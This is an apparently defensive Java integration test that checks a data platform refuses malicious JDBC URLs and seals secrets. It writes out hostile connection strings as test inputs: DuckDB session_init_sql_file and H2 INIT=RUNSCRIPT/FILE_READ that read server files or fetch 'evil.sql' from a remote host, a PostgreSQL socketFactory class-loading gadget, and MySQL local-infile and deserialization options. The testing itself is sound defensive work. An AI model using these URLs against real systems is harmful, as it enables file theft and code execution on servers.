package dev.sluice.security;

import static dev.sluice.platform.PlatformTenant.json;
import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;

import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.beans.factory.annotation.Value;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.jdbc.core.simple.JdbcClient;

import dev.sluice.account.AccountAdmin;
import dev.sluice.platform.PlatformTenant;
import dev.sluice.testsupport.RawClient.Response;
import dev.sluice.testsupport.SluiceServerTest;
import tools.jackson.databind.JsonNode;

/**
 * Issue 15, items 1 and 9, as a tenant user would try them with signed calls: JDBC URLs that make a driver inside the
 * server read a file, run SQL, load a class or reach elsewhere are refused before any driver sees them (also when they
 * were stored under older rules); nothing read from a file comes back in an answer; and secrets are sealed by what
 * the source type declares, while a credential tucked into another item is refused.
 */
@SluiceServerTest
class JdbcUrlAttackTest {

    static final String PLANTED = "PLANTED-KEY-BYTES-4f1c9e";
    static Path plantedFile;

    @LocalServerPort
    int port;

    @Autowired
    AccountAdmin admin;

    @Autowired
    JdbcClient jdbc;

    @Value("${sluice.data-dir}")
    String dataDir;

    PlatformTenant t;

    @BeforeAll
    static void plant() throws IOException {
        // Stands for any file the server can read; its first line is not SQL, so DuckDB's parser would quote it.
        plantedFile = Files.createTempFile("sluice-planted", ".key");
        Files.writeString(plantedFile, PLANTED + "\nsecond line\n");
    }

    @BeforeEach
    void tenant() {
        t = PlatformTenant.create(admin, port);
    }

    static List<Map<String, String>> items(String... keyThenValue) {
        List<Map<String, String>> items = new ArrayList<>();
        for (int i = 0; i < keyThenValue.length; i += 2) items.add(Map.of("Key", keyThenValue[i], "Value", keyThenValue[i + 1]));
        return items;
    }

    Response checkData(String type, List<Map<String, String>> items) {
        return t.call("CheckDataSourceConnectivity").param("CheckCommand", json(Map.of("Type", type, "ConfigItemList", items))).send();
    }

    Response checkCompute(String type, List<Map<String, String>> items) {
        return t.call("CheckComputeSourceConnectivity").param("CheckCommand", json(Map.of("Type", type, "ConfigList", items))).send();
    }

    Response createData(String name, String type, boolean check, List<Map<String, String>> items) {
        return t.call("CreateDataSource").param("CreateCommand", json(Map.of("ProdDataSourceCreate", Map.of("Name", name, "Type", type,
                "CheckActivity", check, "ConfigItemList", items)))).send();
    }

    static void refusedNaming(Response r, String... named) {
        assertThat(r.status()).as(r.body().toString()).isEqualTo(400);
        assertThat(r.code()).as(r.body().toString()).isEqualTo("InvalidParameter");
        assertThat(r.message()).contains(named);
        assertThat(r.body().toString()).doesNotContain(PLANTED);
    }

    String masterKey() {
        return Path.of(dataDir).toAbsolutePath().normalize().resolve("master.key").toString();
    }

    @Test
    void duckdbSessionInitSqlFileReadsNothingThroughAnyOperation() {
        for (String file : List.of(plantedFile.toString(), masterKey())) {
            String url = "jdbc:duckdb::memory:;session_init_sql_file=" + file;
            refusedNaming(checkData("DUCKDB", items("jdbc.url", url)), "ConfigItemList[0].Value", "jdbc.url");
            refusedNaming(checkCompute("DUCKDB", items("jdbc.url", url)), "ConfigList[0].Value", "jdbc.url");
            refusedNaming(createData("duck", "DUCKDB", true, items("jdbc.url", url)), "ConfigItemList[0].Value", "jdbc.url");
            refusedNaming(createData("duck", "DUCKDB", false, items("jdbc.url", url)), "jdbc.url");
        }
    }

    @Test
    void duckdbTakesNoOptionInAnyForm() {
        for (String url : List.of("jdbc:duckdb:;session_init_sql_file=" + plantedFile, "jdbc:duckdb::memory:?session_init_sql_file=" + plantedFile,
                "jdbc:duckdb::memory:;enable_external_access=true", "jdbc:duckdb:;allow_unsigned_extensions=true",
                "jdbc:duckdb::memory:;jdbc_pin_db=true", "jdbc:duckdb::memory: ; session_init_sql_file = " + plantedFile)) {
            refusedNaming(checkData("DUCKDB", items("jdbc.url", url)), "jdbc.url");
        }
        refusedNaming(checkData("DUCKDB", items("jdbc.url", "jdbc:duckdb:" + plantedFile)), "sluice.sources.file-roots");
        refusedNaming(checkData("DUCKDB", items("jdbc.url", "jdbc:duckdb::memory:shared_between_tenants")), "jdbc.url");
        Response memory = checkData("DUCKDB", items("jdbc.url", "jdbc:duckdb::memory:"));
        assertThat(memory.body().path("Data").asBoolean()).as(memory.body().toString()).isTrue();
    }

    @Test
    void aUrlStoredUnderOlderRulesIsCheckedAgainBeforeItConnects() {
        Response created = createData("old_duck", "DUCKDB", false, items("jdbc.url", "jdbc:duckdb:"));
        assertThat(created.status()).as(created.body().toString()).isEqualTo(200);
        long id = created.body().path("CreateResult").path("ProdDataSourceId").asLong();
        jdbc.sql("update source_config_item set item_value = :url where source_kind = 'DATA' and source_id = :id and item_key = 'jdbc.url'")
                .param("url", "jdbc:duckdb::memory:;session_init_sql_file=" + plantedFile).param("id", id).update();

        refusedNaming(t.call("CheckDataSourceConnectivityById").param("Id", id).send(), "jdbc.url");
    }

    @Test
    void h2RunsNoScriptAndOpensNoListener() {
        String server = "jdbc:h2:tcp://h2.example:9092/app";
        refusedNaming(checkData("H2", items("jdbc.url", server + ";INIT=RUNSCRIPT FROM '" + plantedFile + "'")), "INIT");
        refusedNaming(checkData("H2", items("jdbc.url", server + ";init=runscript from 'http://x/evil.sql'")), "INIT");
        refusedNaming(checkData("H2", items("jdbc.url", server + ";AUTO_SERVER=TRUE")), "AUTO_SERVER");
        refusedNaming(checkData("H2", items("jdbc.url", server + ";IFEXISTS=FALSE")), "IFEXISTS");
        refusedNaming(checkData("H2", items("jdbc.url", server + ";LOCK_TIMEOUT=FILE_READ('" + plantedFile + "')")), "LOCK_TIMEOUT");
        refusedNaming(checkData("H2", items("jdbc.url", "jdbc:h2:file:" + plantedFile)), "sluice.sources.file-roots");
    }

    @Test
    void postgresqlLoadsNoClassAndWritesNoFile() {
        String db = "jdbc:postgresql://pg.example:5432/app?";
        for (String option : List.of("socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext&socketFactoryArg=http://x/a.xml",
                "loggerFile=/tmp/x.log&loggerLevel=TRACE", "sslfactory=java.lang.Object", "sslpasswordcallback=java.lang.Object",
                "authenticationPluginClassName=java.lang.Object", "service=prod", "options=-c%20log_statement%3Dall", "SocketFactory=x.Y",
                "sslmode=require&sslmode=disable", "host=10.0.0.1")) {
            String name = option.substring(0, option.indexOf('='));
            Response r = checkData("POSTGRE_SQL", items("jdbc.url", db + option));
            refusedNaming(r, "jdbc.url");
            assertThat(r.message()).as(option).containsAnyOf("'" + name + "'", "twice");
        }
    }

    @Test
    void mariadbReadsNoLocalFileAndFollowsNoOtherHost() {
        for (String url : List.of("jdbc:mariadb://my.example/app?allowLocalInfile=true", "jdbc:mysql://my.example/app?autoDeserialize=true",
                "jdbc:mariadb://my.example/app?localSocket=/run/mysqld/mysqld.sock", "jdbc:mariadb://my.example/app?pipe=x",
                "jdbc:mariadb://my.example/app?serverRsaPublicKeyFile=" + plantedFile, "jdbc:mariadb://my.example/app?ALLOWLOCALINFILE=true",
                "jdbc:mariadb://address=(host=my.example)(port=3306)(type=primary)/app", "jdbc:mysql:loadbalance://a.example,b.example/app",
                "jdbc:mariadb:replication://a.example,b.example/app", "jdbc:mariadb://my.example/app?permitMysqlScheme")) {
            refusedNaming(checkData("MYSQL", items("jdbc.url", url)), "jdbc.url");
        }
    }

    @Test
    void theUserIsNamedOnceSoTheUrlCannotOverrideIt() {
        refusedNaming(checkData("POSTGRE_SQL", items("jdbc.url", "jdbc:postgresql://pg.example/app?user=postgres", "jdbc.username", "app")),
                "jdbc.url", "once");
    }

    @Test
    void aCredentialInAnItemThatIsNotSecretIsRefusedForEveryType() {
        refusedNaming(checkData("MYSQL", items("jdbc.url", "jdbc:mysql://root:pw@my.example/app")), "ConfigItemList[0].Value", "jdbc.url", "credential");
        refusedNaming(createData("mc", "MAX_COMPUTE", false, items("endpoint", "http://ak:secret@service.odps.example/api")),
                "ConfigItemList[0].Value", "'endpoint'", "credential");
        refusedNaming(createData("hive", "HIVE", false, items("jdbc.url", "jdbc:hive2://h:10000/db", "extra", "ssl=true;password=hunter2")),
                "ConfigItemList[1].Value", "'extra'", "credential");
        refusedNaming(createData("kafka", "KAFKA", false, items("bootstrap", "k1:9092", "props", "security.protocol=SASL&pwd=hunter2")),
                "ConfigItemList[1].Value", "'props'");
        // The same text in a declared secret item is just a secret, sealed like any other.
        Response jaas = createData("kafka_ok", "KAFKA", false, items("bootstrap", "k1:9092", "sasl.jaas.config",
                "org.apache.kafka.common.security.plain.PlainLoginModule required username=\"u\" password=\"hunter2\";"));
        assertThat(jaas.status()).as(jaas.body().toString()).isEqualTo(200);
    }

    @Test
    void secretsAreSealedByWhatTheTypeDeclaresAndNeverShown() {
        Response created = createData("odps", "MAX_COMPUTE", false, items("endpoint", "http://service.odps.example/api",
                "accessId", "LTAI-visible-id", "accessKey", "mc-access-key-secret-77", "keytab", "a2V5dGFiLWJ5dGVz", "pwd", "pwd-secret-55"));
        assertThat(created.status()).as(created.body().toString()).isEqualTo(200);
        long id = created.body().path("CreateResult").path("ProdDataSourceId").asLong();
        Response s3 = createData("s3", "AMAZON_S3", false, items("accessKey", "AKIA-visible-id", "secretKey", "s3-secret-88"));
        assertThat(s3.status()).as(s3.body().toString()).isEqualTo(200);

        Response listed = t.call("ListDataSourceWithConfig").param("ListQuery", json(Map.of("Page", 1, "PageSize", 10))).send();
        assertThat(listed.status()).as(listed.body().toString()).isEqualTo(200);
        String answer = listed.body().toString();
        assertThat(answer).contains("LTAI-visible-id", "service.odps.example", "AKIA-visible-id")
                .doesNotContain("mc-access-key-secret-77", "a2V5dGFiLWJ5dGVz", "pwd-secret-55", "s3-secret-88");
        JsonNode odps = null;
        for (JsonNode pair : listed.body().path("PageResult").path("DataSourceList")) {
            if (pair.path("ProdDataSourceInfo").path("Id").asLong() == id) odps = pair.path("ProdDataSourceInfo");
        }
        assertThat(odps).as(answer).isNotNull();
        assertThat(odps.path("ConfigItemList")).extracting(i -> i.path("Key").asString()).containsExactly("endpoint", "accessId");

        List<Map<String, Object>> rows = jdbc.sql("select item_key, item_value, secret from source_config_item where source_kind = 'DATA' and source_id = :id")
                .param("id", id).query().listOfRows();
        for (Map<String, Object> row : rows) {
            String key = String.valueOf(row.get("item_key"));
            boolean sealed = List.of("accessKey", "keytab", "pwd").contains(key);
            assertThat(row.get("secret")).as(key).isEqualTo(sealed);
            if (sealed) assertThat(String.valueOf(row.get("item_value"))).as(key).doesNotContain("secret", "a2V5dGFi");
        }
    }
}
